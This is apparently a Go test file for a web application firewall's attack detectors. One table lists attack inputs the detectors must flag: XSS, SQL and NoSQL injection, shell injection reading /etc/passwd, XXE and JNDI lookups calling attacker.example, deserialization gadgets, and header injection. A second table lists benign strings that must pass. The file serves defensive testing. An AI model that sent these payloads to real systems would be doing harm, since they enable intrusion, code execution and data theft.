package detect_test

import (
	"encoding/base64"
	"testing"

	"github.com/portcullis-waf/portcullis/waf/decode"
	"github.com/portcullis-waf/portcullis/waf/detect"
	"github.com/portcullis-waf/portcullis/waf/detect/crlf"
	"github.com/portcullis-waf/portcullis/waf/detect/deserialization"
	"github.com/portcullis-waf/portcullis/waf/detect/jndi"
	"github.com/portcullis-waf/portcullis/waf/detect/ldap"
	"github.com/portcullis-waf/portcullis/waf/detect/nosql"
	"github.com/portcullis-waf/portcullis/waf/detect/shell"
	"github.com/portcullis-waf/portcullis/waf/detect/sqli"
	"github.com/portcullis-waf/portcullis/waf/detect/ssi"
	"github.com/portcullis-waf/portcullis/waf/detect/ssrf"
	"github.com/portcullis-waf/portcullis/waf/detect/ssti"
	"github.com/portcullis-waf/portcullis/waf/detect/traversal"
	"github.com/portcullis-waf/portcullis/waf/detect/xss"
	"github.com/portcullis-waf/portcullis/waf/detect/xxe"
)

// attackAt is the confidence the verdict treats as an attack.
const attackAt = 70

func allDetectors() []detect.Detector {
	return []detect.Detector{sqli.New(), xss.New(), shell.New(), traversal.New(), ssti.New(), ssrf.New(),
		ldap.New(), nosql.New(), xxe.New(), crlf.New(), jndi.New(), deserialization.New(), ssi.New()}
}

// strongest runs every detector on every decoding of v, as the waf stage
// does, and returns the strongest finding with its decoding chain.
func strongest(dets []detect.Detector, v string, w detect.Where) (detect.Finding, string) {
	var best detect.Finding
	chain := ""
	for _, x := range decode.New(decode.Limits{}).Variants(v) {
		for _, d := range dets {
			if f, ok := d.Detect(detect.Input{Value: x.Value, Where: w, Name: "ARGS:v"}); ok && f.Confidence > best.Confidence {
				best, chain = f, x.Chain.String()
			}
		}
	}
	return best, chain
}

// TestIssue15AttackShapes: every missed-attack shape issue 15 names is
// found, by the detector of its class, at attack confidence.
func TestIssue15AttackShapes(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	dets := allDetectors()
	for _, tt := range []struct {
		v     string
		where detect.Where
		class detect.Class
	}{
		// JavaScript calls that avoid alert(
		{"confirm.call(null,1)", detect.WhereQuery, detect.XSS},
		{"(alert)(1)", detect.WhereQuery, detect.XSS},
		{"alert?.(document.cookie)", detect.WhereQuery, detect.XSS},
		{"'\"><svg/onload=(new(Image)).src='//x.example/?'+1>", detect.WhereQuery, detect.XSS},
		// template expressions
		{"{{7*7}}", detect.WhereQuery, detect.SSTI},
		{"${7*7}", detect.WhereQuery, detect.SSTI},
		{"<%= 7*7 %>", detect.WhereForm, detect.SSTI},
		// LDAP filters
		{"*(|(objectclass=*))", detect.WhereQuery, detect.LDAP},
		{"*)(uid=*))(|(uid=*", detect.WhereForm, detect.LDAP},
		// mail/SMTP header injection
		{"alice@example.com\r\nBcc: victim@example.org", detect.WhereForm, detect.HeaderInjection},
		{"hello\r\n.\r\nMAIL FROM:<a@example.com>\r\nRCPT TO:<b@example.org>", detect.WhereForm, detect.HeaderInjection},
		{"x%0d%0aSet-Cookie:%20s=1", detect.WhereQuery, detect.HeaderInjection},
		// NoSQL operators and JavaScript
		{`{"username":{"$ne":null},"password":{"$ne":null}}`, detect.WhereBody, detect.NoSQL},
		{`{"$where":"sleep(5000) || true"}`, detect.WhereBody, detect.NoSQL},
		{`{"$where":"while(true){}"}`, detect.WhereBody, detect.NoSQL},
		// shell with quote-splitting, globbing, ${IFS}
		{"cat /et'c/pa'ss'wd", detect.WhereQuery, detect.Shell},
		{";cat${IFS}/etc/passwd", detect.WhereQuery, detect.Shell},
		{"; /???/c?t /e??/p?ss??", detect.WhereQuery, detect.Shell},
		{"; strace sh -c whoami", detect.WhereQuery, detect.Shell},
		// XXE with external or parameter entities
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, detect.WhereBody, detect.XXE},
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>`, detect.WhereBody, detect.XXE},
		// SQL in ordinary headers, and keyword probes that parse
		{"' OR 1=1--", detect.WhereHeader, detect.SQLi},
		{"1 AND SLEEP(5)", detect.WhereHeader, detect.SQLi},
		{") or (1=1", detect.WhereQuery, detect.SQLi},
		{"1(select*from(select(sleep(5)))d)", detect.WhereQuery, detect.SQLi},
		{"UPDATE users SET role='admin' WHERE id=1", detect.WhereQuery, detect.SQLi},
		// base64, which the CRS never decodes
		{b64("' UNION SELECT password FROM users--"), detect.WhereCookie, detect.SQLi},
		{b64("<img src=x onerror=alert(1)>"), detect.WhereQuery, detect.XSS},
		// serialized objects: Java, PHP, .NET, Python pickle
		{"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAAAeA==", detect.WhereCookie, detect.Deserialization},
		{`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`, detect.WhereCookie, detect.Deserialization},
		{`{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}`, detect.WhereBody, detect.Deserialization},
		{"cos\nsystem\n(S'id'\ntR.", detect.WhereBody, detect.Deserialization},
		// JNDI lookups with nested obfuscation
		{"${${lower:j}ndi:ldap://attacker.example/a}", detect.WhereHeader, detect.JNDI},
		{"${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/a}", detect.WhereHeader, detect.JNDI},
		// server-side includes
		{`<!--#exec cmd="id" -->`, detect.WhereForm, detect.SSI},
		{`<!--#include virtual="/etc/passwd" -->`, detect.WhereQuery, detect.SSI},
	} {
		f, chain := strongest(dets, tt.v, tt.where)
		if f.Confidence < attackAt || f.Class != tt.class {
			t.Errorf("%q (%s): strongest %s %d %q via %q, want %s at %d+", tt.v, tt.where, f.Class, f.Confidence, f.Reason, chain, tt.class, attackAt)
		}
	}
}

// TestIssue15BenignShapes: the false-positive shapes issue 15 names pass
// every detector below attack confidence.
func TestIssue15BenignShapes(t *testing.T) {
	dets := allDetectors()
	for _, tt := range []struct {
		v     string
		where detect.Where
	}{
		{`{"user":{"name":"Ann","tags":["a","b"]},"ids":[1,2,3],"active":true}`, detect.WhereBody}, // 942550
		{"zsh is the best!", detect.WhereQuery},                                                    // 932xxx
		{"ls 300 lexus", detect.WhereQuery},
		{"union was a great select", detect.WhereQuery}, // 942190/942100
		{"george.orwell@example.com", detect.WhereForm},
		{"orlando.or@example.org", detect.WhereForm},
		{"JavaScript: The Good Parts", detect.WhereQuery},       // 941210
		{"/docs/etc/passwd-reset-howto.html", detect.WherePath}, // 930130
		{"It's O'Brien's dog, isn't it?", detect.WhereForm},
		{"D'Angelo & O'Connor", detect.WhereJSON},
		{"Use `SELECT * FROM users WHERE id = 1` to check, then drop table tennis lessons.", detect.WhereJSON},
		{"Run `rm -rf build/` and then `make` again.", detect.WhereJSON},
		{"## Install\n\n```sh\nnpm install --save portcullis\n```\n\n* fast\n* small", detect.WhereJSON},
		{`<p>Hello <strong>world</strong>, see <a href="https://example.com/x">this</a>.</p>`, detect.WhereForm},
		{"The <script> tag runs JavaScript; avoid alert() in production.", detect.WhereForm},
		{"Price (incl. VAT) = 12.50 or less", detect.WhereForm},
		{"Insert the coin (see figure 2) and wait", detect.WhereQuery},
		{"Hello {name}, your order #123 ships today", detect.WhereJSON},
		{"<!-- draft, do not publish -->", detect.WhereForm},
		{"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/127.0.0.0 Safari/537.36", detect.WhereHeader},
	} {
		if f, chain := strongest(dets, tt.v, tt.where); f.Confidence >= attackAt {
			t.Errorf("benign %q (%s): %s %d %q via %q", tt.v, tt.where, f.Class, f.Confidence, f.Reason, chain)
		}
	}
}
